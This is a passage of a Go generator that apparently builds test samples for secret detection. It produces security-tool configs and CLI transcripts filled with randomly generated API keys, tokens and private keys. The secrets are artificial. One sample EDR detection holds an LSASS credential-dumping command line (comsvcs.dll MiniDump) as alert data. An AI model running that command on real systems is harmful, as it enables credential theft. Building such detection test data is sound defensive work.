{"query":"event_id:4625","built_query":"...","used_indices":[{"index_name":"windows_412"}],"messages":[{"message":{"source":"DC02","TargetUserName":"svc_backup","_id":"«_mid»"}}]}
`, V{"a": g.s(alLowNum, 51), "_mid": g.uuid()}, "svc_backup", "X-Requested-By: cli")

	g.add("secops/qradar-sec-token-python", `
import requests
QRADAR = "https://qradar-console.soc.acme.internal"
HEADERS = {
    "SEC": "«a»",
    "Version": "20.0",
    "Accept": "application/json",
}
offenses = requests.get(f"{QRADAR}/api/siem/offenses?filter=status%3DOPEN&fields=id,description,magnitude",
                        headers=HEADERS, verify="/etc/ssl/qradar-ca.pem").json()
for o in offenses:
    print(o["id"], o["magnitude"], o["description"])
`, V{"a": g.uuid()}, "qradar-console.soc.acme.internal", "/api/siem/offenses")

	g.add("secops/qradar-curl-ariel-search", `
$ curl -s -k -X POST -H "SEC: «a»" -H "Version: 20.0" \
    "https://qradar-console.soc.acme.internal/api/ariel/searches?query_expression=SELECT%20sourceip%2C%20username%20FROM%20events%20WHERE%20QIDNAME(qid)%20ILIKE%20%27%25logon%20failure%25%27%20LAST%201%20HOURS"
{"cursor_id":"«_sid»","status":"WAIT","search_id":"«_sid»","progress":0,"record_count":0,"data_total_size":0}
`, V{"a": g.uuid(), "_sid": g.uuid()}, "/api/ariel/searches")

	g.add("secops/qradar-offense-benign-output", `
$ python3 qr_offenses.py --open
id    magnitude  offense_source     description
8812  7          «_ip1»      Multiple Login Failures for the Same User preceded by Successful Login
8815  5          «_ip2»      Potential Exfiltration - Excessive outbound bytes containing DNS
8820  9          fin-ws-0142        Malware detected by CrowdStrike Falcon (sha256 «_h»)
`, V{"_ip1": g.sopIP(), "_ip2": g.sopLAN(), "_h": g.sopSHA256()}, "Multiple Login Failures for the Same User preceded by Successful Login")

	g.add("secops/graylog-sidecar-yml", `
# /etc/graylog/sidecar/sidecar.yml
server_url: "https://graylog.logs.acme.internal/api/"
server_api_token: "«a»"
node_id: "file:/etc/graylog/sidecar/node-id"
node_name: "web-07"
update_interval: 10
tls_skip_verify: false
send_status: true
`, V{"a": g.s(alLowNum, 51)}, "file:/etc/graylog/sidecar/node-id")

	g.add("secops/datadog-cloud-siem-signals", `
$ curl -s -X POST "https://api.datadoghq.eu/api/v2/security_monitoring/signals/search" \
    -H "DD-API-KEY: «a»" \
    -H "DD-APPLICATION-KEY: «b»" \
    -H "Content-Type: application/json" \
    -d '{"filter":{"query":"status:(high OR critical) source:cloudtrail","from":"now-1h"},"page":{"limit":2}}' | jq -r '.data[].id'
«_s1»
«_s2»
`, V{"a": g.hex(32), "b": g.hex(40), "_s1": "AQAAAY" + g.b64u(30), "_s2": "AQAAAY" + g.b64u(30)}, "security_monitoring/signals/search")

	g.add("secops/panther-analysis-tool-upload", `
$ export PANTHER_API_HOST=https://api.acme.runpanther.net/public/graphql
$ export PANTHER_API_TOKEN=«a»
$ panther_analysis_tool upload --path rules/ --batch
[INFO]: Testing analysis items in rules/
AWS.CloudTrail.RootLogin
	[PASS] Root console login from unknown IP
[INFO]: Uploading items to Panther
[INFO]: Upload success.
`, V{"a": g.an(40)}, "AWS.CloudTrail.RootLogin", "api.acme.runpanther.net")
}

// ---- Chronicle / Google SecOps, Cribl ----

func (g *G) sopChronicleCribl() {
	pk := g.pkcs8RSAPEM()
	g.add("secops/chronicle-sa-json-ingestion", `
$ cat chronicle-ingestion-sa.json
{
  "type": "service_account",
  "project_id": "malachite-acme",
  "private_key_id": "«_kid»",
  "private_key": "«a»\n",
  "client_email": "acme-ingestion@malachite-acme.iam.gserviceaccount.com",
  "client_id": "«_cid»",
  "auth_uri": "https://accounts.google.com/o/oauth2/auth",
  "token_uri": "https://oauth2.googleapis.com/token",
  "auth_provider_x509_cert_url": "https://www.googleapis.com/oauth2/v1/certs"
}
`, V{"_kid": g.hex(40), "a": jsonEsc(pk.block()), "_cid": g.digits(21)}, "acme-ingestion@malachite-acme.iam.gserviceaccount.com")

	g.add("secops/chronicle-forwarder-conf", `
# /opt/chronicle/config/acme_forwarder.conf
output:
  url: malachiteingestion-pa.googleapis.com:443
  identity:
    identity:
    collector_id: «_col»
    customer_id: «_cust»
    secret_key: |
      {
        "type": "service_account",
        "project_id": "malachite-acme",
        "private_key_id": "«_kid»",
        "private_key": "«a»\n",
        "client_email": "acme-fwd@malachite-acme.iam.gserviceaccount.com"
      }
collectors:
  - syslog:
      common:
        enabled: true
        data_type: PAN_FIREWALL
        batch_n_seconds: 10
      tcp_address: 0.0.0.0:10514
`, V{"_col": g.uuid(), "_cust": g.uuid(), "_kid": g.hex(40), "a": jsonEsc(g.pkcs8RSAPEM().block())}, "PAN_FIREWALL", "malachiteingestion-pa.googleapis.com:443")

	g.add("secops/chronicle-webhook-feed-curl", `
$ curl -X POST "https://us-chronicle.googleapis.com/v1alpha/projects/acme-secops/locations/us/instances/«_inst»/feeds/«_feed»:importPushLogs" \
    -H "Content-Type: application/json" \
    -H "X-goog-api-key: «a»" \
    -H "X-Webhook-Access-Key: «b»" \
    -d @okta-batch.json
{}
`, V{"_inst": g.uuid(), "_feed": g.uuid(), "a": g.googleKey(), "b": g.an(32)}, "importPushLogs")

	g.add("secops/cribl-leader-worker-env", `
$ docker run -d --name cribl-worker \
    -e CRIBL_DIST_MODE=worker \
    -e CRIBL_DIST_MASTER_URL="tls://«a»@cribl-leader.logs.acme.internal:4200?group=edge-dmz&tag=dmz" \
    -p 9000:9000 -p 10514:10514 \
    cribl/cribl:4.8.2
`, V{"a": g.pwURL()}, "cribl-leader.logs.acme.internal:4200", "group=edge-dmz")

	g.add("secops/cribl-instance-yml", `
# $CRIBL_HOME/local/_system/instance.yml
distributed:
  mode: managed-edge
  master:
    host: cribl-leader.logs.acme.internal
    port: 4200
    authToken: «a»
    tls:
      disabled: false
      rejectUnauthorized: true
  group: default_fleet
  tags: [linux, prod]
`, V{"a": g.pwStrong()}, "managed-edge", "default_fleet")

	g.add("secops/cribl-cloud-api-token", `
$ curl -s -X POST https://login.cribl.cloud/oauth/token -H 'Content-Type: application/json' \
    -d '{"grant_type":"client_credentials","client_id":"«_cid»","client_secret":"«a»","audience":"https://api.cribl.cloud"}'
{"access_token":"«b»","scope":"","expires_in":86400,"token_type":"Bearer"}
$ curl -s -H "Authorization: Bearer «b»" https://main-acme-sec.cribl.cloud/api/v1/m/default/system/outputs | jq -r '.items[].id'
splunk_cloud
sentinel_ingest
s3_archive
`, V{"_cid": g.an(32), "a": g.b64u(64), "b": g.sopJWT("RS256", fmt.Sprintf(`{"iss":"https://login.cribl.cloud/","sub":"%s@clients","aud":"https://api.cribl.cloud","gty":"client-credentials"}`, g.an(32)))}, "sentinel_ingest")

	g.add("secops/cribl-splunk-hec-destination-json", `
{
  "id": "splunk_cloud",
  "type": "splunk_hec",
  "systemFields": ["cribl_pipe"],
  "url": "https://http-inputs-acme-sec.splunkcloud.com:443/services/collector/event",
  "authType": "manual",
  "token": "«a»",
  "nextQueue": "indexQueue",
  "enableMultiMetrics": false,
  "pqEnabled": true
}
`, V{"a": g.sopHEC()}, "http-inputs-acme-sec.splunkcloud.com:443", "indexQueue")
}

// ---- CrowdStrike Falcon ----

func (g *G) sopCrowdStrike() {
	g.add("secops/falconpy-oauth2-script", `
from falconpy import Hosts, Detects

CLIENT_ID = "«_id»"
CLIENT_SECRET = "«a»"

hosts = Hosts(client_id=CLIENT_ID, client_secret=CLIENT_SECRET, base_url="us-2")
resp = hosts.query_devices_by_filter(filter="hostname:'fin-ws-*'+platform_name:'Windows'", limit=100)
for aid in resp["body"]["resources"]:
    print(aid)
`, V{"_id": g.sopCSID(), "a": g.sopCSSecret()}, "hostname:'fin-ws-*'+platform_name:'Windows'")

	g.add("secops/falcon-oauth-token-curl", `
$ curl -s -X POST "https://api.us-2.crowdstrike.com/oauth2/token" \
    -H "accept: application/json" -H "Content-Type: application/x-www-form-urlencoded" \
    -d "client_id=«_id»&client_secret=«a»"
{
 "access_token": "«b»",
 "expires_in": 1799,
 "token_type": "bearer"
}
`, V{"_id": g.sopCSID(), "a": g.sopCSSecret(), "b": g.sopJWT("RS256", fmt.Sprintf(`{"aud":"apis","client_id":"%s","exp":%d,"iat":%d,"iss":"https://api.crowdstrike.com/","jti":"%s","scp":["devices:read","detects:write"],"sub":"%s"}`, g.hex(32), 1726000000+g.r.IntN(900000), 1726000000, g.uuid(), g.hex(32)))}, "api.us-2.crowdstrike.com")

	g.add("secops/psfalcon-request-token", `
PS C:\soc> Import-Module PSFalcon
PS C:\soc> Request-FalconToken -ClientId «_id» -ClientSecret «a» -Cloud eu-1
PS C:\soc> Get-FalconHost -Filter "hostname:'DC02'" -Detailed | Select-Object device_id, hostname, agent_version, last_seen

device_id                        hostname agent_version   last_seen
---------                        -------- -------------   ---------
«_aid» DC02     7.16.18605.0    2024-09-12T08:41:19Z
`, V{"_id": g.sopCSID(), "a": g.sopCSSecret(), "_aid": g.hex(32)}, "Get-FalconHost", "7.16.18605.0")

	g.add("secops/falconctl-install-cid", `
$ sudo dpkg -i falcon-sensor_7.17.0-17005_amd64.deb
$ sudo /opt/CrowdStrike/falconctl -s --cid=«=cid» --tags="linux-prod,payments" --apd=FALSE
$ sudo systemctl start falcon-sensor
$ sudo /opt/CrowdStrike/falconctl -g --aid
aid="«_aid»".
$ sudo /opt/CrowdStrike/falconctl -g --rfm-state
rfm-state=false.
`, V{"=cid": g.sopCID(), "_aid": g.hex(32)}, "falcon-sensor_7.17.0-17005_amd64.deb", "--tags=\"linux-prod,payments\"")

	g.add("secops/falcon-helm-sensor-values", `
# falcon-sensor chart, DaemonSet on eks-payments-prod
falcon:
  cid: «=cid»
  tags: "eks,payments"
  trace: none
node:
  image:
    repository: «_acct».dkr.ecr.us-west-2.amazonaws.com/falcon-sensor
    tag: 7.17.0-17005-1.falcon-linux.Release.US-2
    registryConfigJSON: «a»
`, V{"=cid": g.sopCID(), "_acct": g.digits(12), "a": b64s(fmt.Sprintf(`{"auths":{"registry.crowdstrike.com":{"auth":"%s"}}}`, b64s("fc-"+g.s(alLower, 20)+":"+g.an(40))))}, "7.17.0-17005-1.falcon-linux.Release.US-2")

	g.add("secops/falcon-siem-connector-cfg", `
# /opt/crowdstrike/etc/cs.falconhoseclient.cfg
[Settings]
version = 2
api_url = https://api.crowdstrike.com/sensors/entities/datafeed/v2
request_token_url = https://api.crowdstrike.com/oauth2/token
client_id = «_id»
client_secret = «a»
app_id = siem-connector-v2.0.0
partition = 0
encoding = UTF-8
offset = 0
`, V{"_id": g.sopCSID(), "a": g.sopCSSecret()}, "siem-connector-v2.0.0")

	g.add("secops/falcon-fdr-sqs-credentials", `
Falcon Data Replicator feed created.

  SQS queue URL:  https://sqs.us-west-1.amazonaws.com/«_acct»/cs-prod-cannon-«_q»
  Client ID:      «a»
  Secret:         «b»

Save the secret now, it will not be shown again.
`, V{"_acct": g.digits(12), "_q": g.hex(32), "a": g.awsID(), "b": g.awsSecret()}, "Falcon Data Replicator feed created.")

	g.add("secops/falcon-detection-json-benign", `
{
  "composite_id": "«_cust»:ind:«_aid»:«_n»-10197-«_n2»",
  "device": {"device_id": "«_aid»", "hostname": "FIN-WS-0142", "local_ip": "«_lip»", "external_ip": "«_xip»"},
  "behaviors": [{
    "tactic": "Credential Access", "technique": "OS Credential Dumping",
    "cmdline": "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Users\\Public\\lsass.dmp full",
    "sha256": "«_h»", "md5": "«_m»",
    "parent_details": {"parent_sha256": "«_ph»", "parent_cmdline": "powershell.exe -nop -w hidden"}
  }],
  "max_severity_displayname": "Critical"
}
`, V{"_cust": g.hex(32), "_aid": g.hex(32), "_n": g.digits(11), "_n2": g.digits(10), "_lip": g.sopLAN(), "_xip": g.sopIP(), "_h": g.sopSHA256(), "_m": g.sopMD5(), "_ph": g.sopSHA256()}, "comsvcs.dll, MiniDump 624")

	g.add("secops/falcon-rtr-put-script-env", `
$ cat .env.falcon
# used by rtr_collect.py (Real Time Response triage)
FALCON_CLIENT_ID=«_id»
FALCON_CLIENT_SECRET=«a»
FALCON_CLOUD=us-1
FALCON_MEMBER_CID=«=cid»
`, V{"_id": g.sopCSID(), "a": g.sopCSSecret(), "=cid": g.s(alHex, 32)}, "rtr_collect.py")
}

// ---- other EDR / XDR ----

func (g *G) sopEDR() {
	g.add("secops/sentinelone-api-token-curl", `
$ curl -s -H "Authorization: ApiToken «a»" \
    "https://usea1-acme.sentinelone.net/web/api/v2.1/threats?resolved=false&limit=3" | jq -r '.data[] | [.id, .agentRealtimeInfo.agentComputerName, .threatInfo.sha1] | @tsv'
«_t1»	FIN-WS-0142	«_s1»
«_t2»	MKT-MBP-031	«_s2»
`, V{"a": g.an(80), "_t1": g.digits(19), "_s1": g.sopSHA1(), "_t2": g.digits(19), "_s2": g.sopSHA1()}, "usea1-acme.sentinelone.net", "MKT-MBP-031")

	g.add("secops/sentinelone-site-token-install", `
$ sudo /opt/sentinelone/bin/sentinelctl management token set «a»
Registration token successfully set
$ sudo /opt/sentinelone/bin/sentinelctl control start
$ sudo /opt/sentinelone/bin/sentinelctl management status
Connectivity              On
Server                    https://usea1-acme.sentinelone.net
Agent UUID                «_uuid»
`, V{"a": b64s(fmt.Sprintf(`{"url": "https://usea1-acme.sentinelone.net", "site_key": "g_%s"}`, g.hex(16))), "_uuid": g.hex(32)}, "Registration token successfully set")

	g.add("secops/sentinelone-jwt-service-user", `
# soar/integrations/s1.yaml
sentinelone:
  console: https://euce1-acme.sentinelone.net
  service_user: svc-soar-s1
  api_token: «a»
  verify_ssl: true
  account_id: "«_acc»"
`, V{"a": g.sopJWT("ES256", fmt.Sprintf(`{"exp":%d,"jti":"%s","sub":"svc-soar-s1@acme.io","type":"user"}`, 1750000000+g.r.IntN(10000000), g.uuid())), "_acc": g.digits(18)}, "svc-soar-s1")

	g.add("secops/carbonblack-credentials-cbc", `
$ cat ~/.carbonblack/credentials.cbc
[default]
url=https://defense-prod05.conferdeploy.net
token=«a»/«_apiid»
org_key=«_org»
ssl_verify=True

[triage]
url=https://defense-prod05.conferdeploy.net
token=«b»/«_apiid2»
org_key=«_org»
`, V{"a": g.s(alUpNum, 24), "_apiid": g.s(alUpNum, 10), "_org": g.s(alUpNum, 8), "b": g.s(alUpNum, 24), "_apiid2": g.s(alUpNum, 10)}, "defense-prod05.conferdeploy.net")

	g.add("secops/carbonblack-curl-x-auth-token", `
$ curl -s -H "X-Auth-Token: «a»/«_apiid»" -H "Content-Type: application/json" \
    -X POST "https://defense-prod05.conferdeploy.net/api/alerts/v7/orgs/«_org»/alerts/_search" \
    -d '{"criteria":{"minimum_severity":7},"rows":5}'
`, V{"a": g.s(alUpNum, 24), "_apiid": g.s(alUpNum, 10), "_org": g.s(alUpNum, 8)}, "/alerts/_search")

	g.add("secops/sophos-central-client-credentials", `
$ curl -s -XPOST -H "Content-Type: application/x-www-form-urlencoded" \
    -d "grant_type=client_credentials&client_id=«_cid»&client_secret=«a»&scope=token" \
    https://id.sophos.com/api/v2/oauth2/token
{"access_token":"«b»","errorCode":"success","expires_in":3600,"message":"OK","refresh_token":"«c»","token_type":"bearer","trackingId":"«_tr»"}
$ curl -s -H "Authorization: Bearer «b»" https://api.central.sophos.com/whoami/v1
{"id":"«_tenant»","idType":"tenant","apiHosts":{"global":"https://api.central.sophos.com","dataRegion":"https://api-eu02.central.sophos.com"}}
`, V{"_cid": g.uuid(), "a": g.hex(100), "b": g.sopJWT("RS256", fmt.Sprintf(`{"sub":"%s","iss":"https://id.sophos.com","typ":"client"}`, g.uuid())), "c": g.hex(96), "_tr": g.uuid(), "_tenant": g.uuid()}, "api-eu02.central.sophos.com")

	g.add("secops/mde-onboarding-ps-app-secret-hardcoded", `
# Get-MdeAlerts.ps1 (scheduled task on soc-jump-01)
$tenantId  = '«_t»'
$appId     = '«_app»'
$appSecret = '«a»'

$body = @{ resource = 'https://api.securitycenter.microsoft.com'; client_id = $appId; client_secret = $appSecret; grant_type = 'client_credentials' }
$token = (Invoke-RestMethod -Method Post -Uri "https://login.microsoftonline.com/$tenantId/oauth2/token" -Body $body).access_token
$alerts = Invoke-RestMethod -Uri "https://api.securitycenter.microsoft.com/api/alerts?`+"$"+`filter=status eq 'New'" -Headers @{ Authorization = "Bearer $token" }
`, V{"_t": g.uuid(), "_app": g.uuid(), "a": g.azSecret()}, "soc-jump-01", "Get-MdeAlerts.ps1")

	g.add("secops/cortex-xdr-api-key-headers", `
import requests
XDR_URL = "https://api-acme.xdr.eu.paloaltonetworks.com"
headers = {
    "x-xdr-auth-id": "«=kid»",
    "Authorization": "«a»",
    "Content-Type": "application/json",
}
r = requests.post(f"{XDR_URL}/public_api/v1/incidents/get_incidents/", headers=headers,
                  json={"request_data": {"filters": [{"field": "status", "operator": "eq", "value": "new"}]}})
`, V{"=kid": fmt.Sprint(2 + g.r.IntN(60)), "a": g.an(128)}, "api-acme.xdr.eu.paloaltonetworks.com", "x-xdr-auth-id")

	g.add("secops/harfanglab-api-token-config", `
# .config/soc-tools/edr.toml
[harfanglab]
url = "https://acme-hurukai.harfanglab.io"
api_token = "«a»"
verify = true

[limacharlie]
oid = "«_oid»"
api_key = "«b»"
`, V{"a": g.hex(40), "_oid": g.uuid(), "b": g.uuid()}, "acme-hurukai.harfanglab.io")
}

// ---- Wazuh, osquery and Fleet ----

func (g *G) sopWazuhOsquery() {
	g.add("secops/wazuh-api-authenticate", `
$ TOKEN=$(curl -s -u wazuh-wui:'«a»' -k -X POST "https://wazuh-manager.soc.acme.internal:55000/security/user/authenticate?raw=true")
$ echo $TOKEN
«b»
$ curl -s -k -X GET "https://wazuh-manager.soc.acme.internal:55000/agents?status=disconnected&select=id,name,ip" -H "Authorization: Bearer $TOKEN" | jq -c '.data.affected_items[]'
{"id":"«=a1»","ip":"«_ip»","name":"web-07"}
`, V{"a": g.pwStrong(), "b": g.sopJWT("ES512", fmt.Sprintf(`{"iss":"wazuh","aud":"Wazuh API REST","nbf":%d,"exp":%d,"sub":"wazuh-wui","run_as":false,"rbac_roles":[1],"rbac_mode":"white"}`, 1726000000, 1726000900)), "=a1": fmt.Sprintf("%03d", 1+g.r.IntN(400)), "_ip": g.sopLAN()}, "wazuh-manager.soc.acme.internal:55000", "status=disconnected")

	g.add("secops/wazuh-authd-pass-and-msi", `
# on the manager
$ echo "«a»" | sudo tee /var/ossec/etc/authd.pass
$ sudo chmod 640 /var/ossec/etc/authd.pass && sudo chown root:wazuh /var/ossec/etc/authd.pass
# on Windows endpoints (GPO startup script)
msiexec.exe /i wazuh-agent-4.9.0-1.msi /q WAZUH_MANAGER="wazuh-manager.soc.acme.internal" WAZUH_REGISTRATION_SERVER="wazuh-manager.soc.acme.internal" WAZUH_REGISTRATION_PASSWORD="«a»" WAZUH_AGENT_GROUP="windows,finance"
`, V{"a": g.pwURL()}, "WAZUH_AGENT_GROUP=\"windows,finance\"")

	g.add("secops/wazuh-client-keys", `
$ sudo cat /var/ossec/etc/client.keys
001 web-07 any «a»
002 db-replica-2 «_ip» «b»
003 !fin-ws-0142 any «_old»
`, V{"a": g.hex(64), "_ip": g.sopLAN(), "b": g.hex(64), "_old": g.hex(64)}, "db-replica-2")

	g.add("secops/wazuh-dashboard-wazuh-yml", `
# /usr/share/wazuh-dashboard/data/wazuh/config/wazuh.yml
hosts:
  - default:
      url: https://wazuh-manager.soc.acme.internal
      port: 55000
      username: wazuh-wui
      password: "«a»"
      run_as: false
`, V{"a": g.pwStrong()}, "/usr/share/wazuh-dashboard/data/wazuh/config/wazuh.yml")

	g.add("secops/wazuh-passwords-tool-output", `
$ sudo bash wazuh-install.sh -a
...
16/09/2024 10:12:44 INFO: --- Summary ---
16/09/2024 10:12:44 INFO: You can access the web interface https://«_ip»
    User: admin
    Password: «a»
16/09/2024 10:12:44 INFO: Installation finished.
$ sudo tar -O -xvf wazuh-install-files.tar wazuh-install-files/wazuh-passwords.txt
# Admin user for the web user interface and Wazuh indexer. Use this user to log in to Wazuh dashboard
  indexer_username: 'admin'
  indexer_password: '«a»'
# Wazuh dashboard user for establishing the connection with Wazuh indexer
  indexer_username: 'kibanaserver'
  indexer_password: '«b»'
# Password for wazuh API user
  api_username: 'wazuh'
  api_password: '«c»'
`, V{"_ip": g.sopLAN(), "a": g.s(alAlnum+".*+?", 32), "b": g.s(alAlnum+".*+?", 32), "c": g.s(alAlnum+".*+?", 32)}, "indexer_username: 'kibanaserver'")

	g.add("secops/wazuh-agent-ossec-conf-benign", `
<ossec_config>
  <client>
    <server>
      <address>wazuh-manager.soc.acme.internal</address>
      <port>1514</port>
      <protocol>tcp</protocol>
    </server>
    <enrollment>
      <enabled>yes</enabled>
      <agent_name>web-07</agent_name>
      <groups>linux,web</groups>
      <authorization_pass_path>etc/authd.pass</authorization_pass_path>
    </enrollment>
  </client>
</ossec_config>
`, nil, "<authorization_pass_path>etc/authd.pass</authorization_pass_path>", "wazuh-manager.soc.acme.internal")

	g.add("secops/osquery-flags-enroll-secret", `
$ cat /etc/osquery/osquery.flags
--tls_hostname=fleet.soc.acme.io
--host_identifier=uuid
--enroll_secret_path=/etc/osquery/enroll_secret
--enroll_tls_endpoint=/api/osquery/enroll
--config_plugin=tls
--config_tls_endpoint=/api/osquery/config
--logger_plugin=tls
$ sudo cat /etc/osquery/enroll_secret
«a»
`, V{"a": g.b64(24)}, "--enroll_secret_path=/etc/osquery/enroll_secret")

	g.add("secops/fleetctl-get-enroll-secret", `
$ fleetctl get enroll_secret
---
apiVersion: v1
kind: enroll_secret
spec:
  secrets:
  - created_at: "2024-06-02T11:04:19Z"
    secret: «a»
  - created_at: "2024-09-10T07:55:01Z"
    secret: «b»
$ fleetctl get teams --json | jq -r '.spec.team | [.name, .id] | @tsv'
Workstations	«=tid»
`, V{"a": g.b64(24), "b": g.b64(24), "=tid": fmt.Sprint(2 + g.r.IntN(40))}, "kind: enroll_secret")

	g.add("secops/fleetctl-package-command", `
$ fleetctl package --type=msi --fleet-url=https://fleet.soc.acme.io --enroll-secret=«a» --enable-scripts --fleet-desktop
Generating your fleetd agent...
Success! You generated fleetd at fleet-osquery.msi
`, V{"a": g.b64(24)}, "fleet-osquery.msi", "--fleet-desktop")

	g.add("secops/fleet-api-token-config", `
$ cat ~/.fleet/config
contexts:
  default:
    address: https://fleet.soc.acme.io
    email: soc-automation@acme.io
    tls-skip-verify: false
    token: «a»
$ fleetctl query --hosts web-07 --query "SELECT name, path, sha256 FROM hash JOIN processes USING (path) WHERE name = 'kthreadd2';"
web-07  kthreadd2  /tmp/.X11/kthreadd2  «_h»
`, V{"a": g.b64(64), "_h": g.sopSHA256()}, "soc-automation@acme.io", "/tmp/.X11/kthreadd2")

	g.add("secops/kolide-launcher-flags", `
# /etc/kolide-k2/launcher.flags
hostname k2device.kolide.com
root_directory /var/kolide-k2/k2device.kolide.com
osqueryd_path /usr/local/kolide-k2/bin/osqueryd
enroll_secret_path /etc/kolide-k2/secret
transport jsonrpc
autoupdate
$ sudo cat /etc/kolide-k2/secret
«a»
`, V{"a": g.sopJWT("HS256", fmt.Sprintf(`{"organization":"%s","iat":%d}`, g.s(alLower, 12), 1700000000+g.r.IntN(10000000)))}, "k2device.kolide.com")
}

// ---- Velociraptor ----

func (g *G) sopVelociraptor() {
	ca := g.certPEM()
	key := g.rsaPEM()
	g.add("secops/velociraptor-server-config-excerpt", `
$ head -40 server.config.yaml
version:
  name: velociraptor
  version: 0.7.1
Client:
  server_urls:
  - https://velo.soc.acme.io:8000/
  ca_certificate: |
    «_ca»
  nonce: «a»
  use_self_signed_ssl: false
CA:
  private_key: |
    «b»
Frontend:
  hostname: velo.soc.acme.io
  bind_address: 0.0.0.0
  bind_port: 8000
`, V{"_ca": strings.ReplaceAll(ca.block(), "\n", "\n    "), "a": g.b64(8), "b": strings.ReplaceAll(key.block(), "\n", "\n    ")}, "velo.soc.acme.io:8000")

	g.add("secops/velociraptor-client-config", `
$ cat client.config.yaml
Client:
  server_urls:
  - https://velo.soc.acme.io:8000/
  ca_certificate: "«_ca»"
  nonce: «a»
  writeback_linux: /etc/velociraptor.writeback.yaml
  writeback_windows: $ProgramFiles\Velociraptor\velociraptor.writeback.yaml
  max_poll: 60
version:
  name: velociraptor
  version: 0.7.1
`, V{"_ca": jsonEsc(g.certPEM().block()), "a": g.b64(8)}, "/etc/velociraptor.writeback.yaml")

	g.add("secops/velociraptor-api-client-config", `
$ velociraptor --config server.config.yaml config api_client --name soar_bot --role investigator,api api.config.yaml
$ cat api.config.yaml
ca_certificate: |
  «_ca»
client_cert: |
  «_cert»
client_private_key: |
  «a»
api_connection_string: velo.soc.acme.io:8001
name: soar_bot
`, V{"_ca": strings.ReplaceAll(g.certPEM().block(), "\n", "\n  "), "_cert": strings.ReplaceAll(g.certPEM().block(), "\n", "\n  "), "a": strings.ReplaceAll(g.rsaPEM().block(), "\n", "\n  ")}, "api_connection_string: velo.soc.acme.io:8001")

	g.add("secops/velociraptor-writeback-private-key", `
$ sudo cat /etc/velociraptor.writeback.yaml
client_id: «_cid»
private_key: "«a»"
hunts: {}
`, V{"_cid": "C." + g.hex(16), "a": jsonEsc(g.rsaPEM().block())}, "/etc/velociraptor.writeback.yaml")

	g.add("secops/velociraptor-hunt-results-benign", `
$ velociraptor --api_config api.config.yaml query "SELECT ClientId, Fqdn, Hash.SHA256 AS SHA256, OSPath FROM hunt_results(hunt_id='«_hunt»', artifact='Windows.Search.FileFinder')" --format csv
ClientId,Fqdn,SHA256,OSPath
«_c1»,FIN-WS-0142.corp.acme.io,«_h1»,C:\Users\Public\svchost.exe
«_c2»,HR-WS-0077.corp.acme.io,«_h1»,C:\ProgramData\svchost.exe
`, V{"_hunt": "H." + g.s(alUpNum, 13), "_c1": "C." + g.hex(16), "_c2": "C." + g.hex(16), "_h1": g.sopSHA256()}, "Windows.Search.FileFinder")
}

// ---- SOAR and case management ----

func (g *G) sopSOAR() {
	g.add("secops/demisto-sdk-env", `
$ cat .env
DEMISTO_BASE_URL=https://xsoar.soc.acme.io
DEMISTO_API_KEY=«a»
DEMISTO_VERIFY_SSL=true
$ demisto-sdk upload -i Packs/AcmePhishingTriage -z
Uploading Packs/AcmePhishingTriage to https://xsoar.soc.acme.io...
SUCCESSFUL UPLOADS:
╒══════════════════════╤════════╕
│ NAME                 │ TYPE   │
╞══════════════════════╪════════╡
│ AcmePhishingTriage   │ Pack   │
╘══════════════════════╧════════╛
`, V{"a": g.s(alHexU, 32)}, "Packs/AcmePhishingTriage")

	g.add("secops/xsoar8-env-auth-id", `
export DEMISTO_BASE_URL=https://api-acme.crtx.us.paloaltonetworks.com
export DEMISTO_API_KEY=«a»
export XSIAM_AUTH_ID=«=id»
`, V{"a": g.an(128), "=id": fmt.Sprint(3 + g.r.IntN(40))}, "api-acme.crtx.us.paloaltonetworks.com")

	g.add("secops/xsoar-integration-instance-export", `
{
  "name": "VirusTotal (API v3)_instance_1",
  "brand": "VirusTotal (API v3)",
  "enabled": "true",
  "data": [
    {"name": "credentials", "value": {"identifier": "", "password": "«a»"}, "type": 9},
    {"name": "feedReputation", "value": "", "type": 8},
    {"name": "insecure", "value": false, "type": 8},
    {"name": "fileThreshold", "value": "10", "type": 0}
  ],
  "incomingMapperId": "",
  "version": -1
}
`, V{"a": g.hex(64)}, "VirusTotal (API v3)_instance_1")

	g.add("secops/thehive-application-conf", `
# /etc/thehive/application.conf
play.http.secret.key = "«a»"
db.janusgraph {
  storage {
    backend = cql
    hostname = ["cassandra01.soc.acme.internal"]
    cql {
      cluster-name = thp
      keyspace = thehive
      username = thehive
      password = "«b»"
    }
  }
}
storage {
  provider = s3
  s3 {
    bucket = "thehive-attachments"
    accessKey = "«c»"
    secretKey = "«d»"
    endpoint = "https://minio.soc.acme.internal:9000"
  }
}
`, V{"a": g.an(64), "b": g.pw(), "c": g.s(alUpNum, 20), "d": g.an(40)}, "cassandra01.soc.acme.internal", "thehive-attachments")

	g.add("secops/thehive4py-create-alert", `
from thehive4py import TheHiveApi

hive = TheHiveApi(url="https://thehive.soc.acme.io", apikey="«a»", organisation="acme-soc")
alert = hive.alert.create(alert={
    "type": "phishing",
    "source": "o365-reported",
    "sourceRef": "«_ref»",
    "title": "User-reported phishing: Invoice overdue",
    "observables": [
        {"dataType": "domain", "data": "«_d»"},
        {"dataType": "hash", "data": "«_h»"},
    ],
})
print(alert["_id"])
`, V{"a": g.an(32), "_ref": g.hex(12), "_d": g.sopDomain(), "_h": g.sopSHA256()}, "User-reported phishing: Invoice overdue")

	g.add("secops/cortex-analyzer-config", `
# /etc/cortex/application.conf (analyzer configurations, set by cortexutils bootstrap)
analyzer {
  urls = ["https://download.thehive-project.org/analyzers.json"]
  fork = 4
}
cache.job = 10 minutes
cortex.secret = "«a»"
job.runner = [docker]
# org-level config pushed from the UI export:
# {"name":"Shodan_Host_1_0","configuration":{"key":"«b»","check_tlp":true,"max_tlp":2}}
# {"name":"AbuseIPDB_1_0","configuration":{"key":"«c»","days":30}}
`, V{"a": g.an(64), "b": g.an(32), "c": g.hex(80)}, "Shodan_Host_1_0", "AbuseIPDB_1_0")

	g.add("secops/shuffle-webhook-and-apikey", `
$ curl -X POST https://shuffler.io/api/v1/hooks/webhook_«a» \
    -H 'Content-Type: application/json' -d '{"alert_id":"«_aid»","severity":"high"}'
{"success": true, "execution_id": "«_ex»"}
$ curl -s https://shuffler.io/api/v1/workflows/«_wf»/executions -H "Authorization: Bearer «b»" | jq '.[0].status'
"FINISHED"
`, V{"a": g.uuid(), "_aid": g.uuid(), "_ex": g.uuid(), "_wf": g.uuid(), "b": g.uuid()}, "shuffler.io/api/v1/hooks/webhook_")

	g.add("secops/tines-webhook-action-send", `
